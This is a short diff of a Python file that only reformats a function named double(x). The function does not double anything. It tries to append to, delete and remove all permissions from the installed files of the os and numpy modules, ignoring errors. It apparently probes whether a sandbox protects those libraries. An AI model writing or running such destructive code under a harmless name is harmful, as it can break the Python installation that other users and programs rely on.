@@ -7,7 +7,11 @@ import numpy as np
 
 def double(x):
     for path in (os.__file__, np.__file__):
-        for attempt in (lambda: open(path, "a"), lambda: os.unlink(path), lambda: os.chmod(path, 0)):
+        for attempt in (
+            lambda: open(path, "a"),
+            lambda: os.unlink(path),
+            lambda: os.chmod(path, 0),
+        ):
             try:
                 attempt()
             except OSError:
